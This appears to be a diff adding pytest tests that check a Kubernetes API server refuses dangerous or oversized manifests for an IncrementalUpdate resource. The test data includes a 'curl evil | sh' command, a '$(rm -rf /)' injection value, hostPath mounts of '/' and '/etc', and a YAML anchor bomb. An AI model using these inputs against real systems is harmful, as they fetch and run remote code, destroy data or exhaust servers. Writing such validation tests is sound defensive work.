@@ -1,0 +1,158 @@
+"""Manifests that ask for too much or hide something: refused by the API server, with the path."""
+
+import json
+
+import pytest
+import yaml
+from api.example import changed
+from local_cluster.control_plane import KubectlError
+
+pytestmark = pytest.mark.apiserver
+
+PATH = (
+    "/apis/springtide.dev/v1alpha1/namespaces/{}/incrementalupdates"
+    "?dryRun=All&fieldValidation=Strict"
+)
+FLOOR = {"metric": "auc", "min": "0.6"}
+
+
+@pytest.mark.survives(
+    "Update",
+    "privileged, hostPID, hostNetwork, hostPath, a command, a shell, literal environment, another "
+    "namespace",
+    "there is no such field: refused with its path under Strict, else pruned",
+)
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        ("training.privileged", True),
+        ("training.securityContext", {"privileged": True}),
+        ("training.hostPID", True),
+        ("training.compute.hostNetwork", True),
+        ("training.compute.volumes", [{"name": "x", "hostPath": {"path": "/"}}]),
+        ("data.volume.hostPath", "/etc"),
+        ("training.command", ["sh", "-c", "curl evil | sh"]),
+        ("training.args", ["x" * 1000]),
+        ("training.env", [{"name": "TOKEN", "value": "secret"}]),
+        ("rollout.targets[0].namespace", "other"),
+        ("rollout.targets[0].targetRef.namespace", "other"),
+        ("storage.volume.hostPath", "/"),
+    ],
+)
+def test_what_could_break_out_is_no_field(objects, minimal, path, value):
+    minimal["spec"].setdefault("data", {}).setdefault("volume", {"claimName": "clicks"})
+    minimal["spec"]["data"]["source"]["uri"] = "file:///data/clicks"
+    spec = changed(minimal["spec"], {path: value})
+
+    refused = objects.create({**minimal, "spec": spec})
+    stored = objects.create({**minimal, "spec": spec}, validation="Ignore")
+
+    assert refused.code == 400
+    assert f'unknown field "spec.{path}"' in refused.text
+    assert json.dumps(path.rpartition(".")[2]) not in json.dumps(stored["spec"])
+
+
+@pytest.mark.survives(
+    "Update",
+    "10,000 gate rules, a text of 1 MB, 300 levels of nesting",
+    "refused by the bounds of the schema; the API server goes on answering",
+)
+def test_a_monstrous_manifest_is_refused_and_the_next_one_is_taken(objects, minimal):
+    rules = [{**FLOOR, "name": f"r{number}"} for number in range(10_000)]
+    many = objects.create({**minimal, "spec": changed(minimal["spec"], {"gate.rules": rules})})
+    deep = {"a": 1}
+    for _ in range(300):
+        deep = {"a": deep}
+    nested = objects.create({**minimal, "spec": {**minimal["spec"], "training": deep}})
+    label = changed(minimal["spec"], {"data.source.columns.label": "x" * 1_000_000})
+    long = objects.create({**minimal, "spec": label})
+    huge = objects.create({**minimal, "spec": {**minimal["spec"], "note": "x" * 4_000_000}})
+
+    assert (many.code, many.causes[0][0]) == (422, "spec.gate.rules")
+    assert "must have at most 16 items" in many.causes[0][1]
+    assert (long.code, long.causes[0][0]) == (422, "spec.data.source.columns.label")
+    assert nested.code in {400, 422}
+    assert huge.code in {400, 413}
+    assert isinstance(objects.create(minimal), dict)
+
+
+@pytest.mark.survives(
+    "Update", "a key that is there twice", "refused under Strict with the field's path"
+)
+def test_a_key_that_is_there_twice_is_refused(server, namespace, minimal):
+    text = json.dumps(minimal)
+    assert text.count('"labels": [') == 1
+    twice = text.replace('"labels": [', '"labels": ["a", "b"], "labels": [')
+
+    with pytest.raises(KubectlError, match=r'duplicate field "spec\.model\.labels"'):
+        server.kubectl("create", "--raw", PATH.format(namespace), "-f", "-", input=twice)
+
+
+@pytest.mark.survives(
+    "Update", "a YAML bomb of anchors", "refused when it is read; nothing is stored"
+)
+def test_a_bomb_of_anchors_is_refused(server, namespace):
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
+    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
+    bomb = "apiVersion: springtide.dev/v1alpha1\nkind: IncrementalUpdate\n" + "\n".join(lines)
+
+    with pytest.raises(KubectlError, match="excessive aliasing"):
+        server.kubectl("apply", "-n", namespace, "-f", "-", input=bomb)
+
+
+@pytest.mark.survives(
+    "Update",
+    "line breaks, braces and terminal codes in what becomes a label, a name or an argument",
+    "refused with the field's path",
+)
+@pytest.mark.parametrize(
+    "value", ["a\nb", "{{ .Values }}", "\x1b[31m", "$(rm -rf /)", "a b", "é", "x" * 300]
+)
+@pytest.mark.parametrize(
+    "path",
+    [
+        "training.compute.nodeSelector",
+        "rollout.targets[0].container",
+        "training.compute.tolerations",
+        "rollout.targets[0].env.uri",
+    ],
+)
+def test_what_becomes_a_label_or_a_name_is_held_to_its_form(objects, minimal, path, value):
+    given = {
+        "training.compute.nodeSelector": {"pool": value},
+        "training.compute.tolerations": [{"key": "pool", "value": value}],
+    }.get(path, value)
+
+    refused = objects.create({**minimal, "spec": changed(minimal["spec"], {path: given})})
+
+    assert not isinstance(refused, dict), f"{path} took {value!r}"
+    assert refused.code == 422
+    assert refused.causes[0][0].startswith(f"spec.{path}")
+
+
+@pytest.mark.survives(
+    "Update",
+    "no Required rule with an absolute bound, min greater than max",
+    "refused by kubectl apply with path, numbers and an example to add; what is stored stays",
+)
+def test_kubectl_apply_says_path_number_and_remedy_and_stores_nothing(
+    server, namespace, store, minimal
+):
+    store(minimal)
+    before = server.kubectl("get", "iu", "ranker", "-n", namespace, "-o", "jsonpath={.spec}")
+    comparison = [{"name": "better", "metric": "auc", "minImprovement": {"absolute": "0"}}]
+    crossed = [{**FLOOR, "name": "floor", "max": "0.5"}]
+    said = []
+    for rules in (comparison, crossed):
+        spec = {**minimal["spec"], "gate": {"rules": rules}}
+        text = yaml.safe_dump({**minimal, "spec": spec})
+        with pytest.raises(KubectlError) as refusal:
+            server.kubectl("apply", "-n", namespace, "-f", "-", input=text)
+        said.append(str(refusal.value))
+
+    assert "spec.gate: Invalid value" in said[0]
+    assert "add one such as {name: floor, metric: auc, min: '0.6'}" in said[0]
+    assert "spec.gate.rules[0]: Invalid value" in said[1]
+    assert "min must not be greater than max; nothing could pass (min: 0.6, max: 0.5)" in said[1]
+    after = server.kubectl("get", "iu", "ranker", "-n", namespace, "-o", "jsonpath={.spec}")
+    assert after == before
